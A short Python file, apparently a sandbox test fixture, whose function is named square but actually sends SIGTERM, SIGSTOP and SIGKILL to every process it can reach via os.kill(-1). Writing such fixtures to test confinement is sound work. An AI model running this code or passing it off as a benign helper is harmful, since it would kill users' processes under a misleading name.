"""Kills all that it may."""
# needs: landlock
# %% square
import os
import signal

def square(x):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError as error:
            print(error)
    return 0
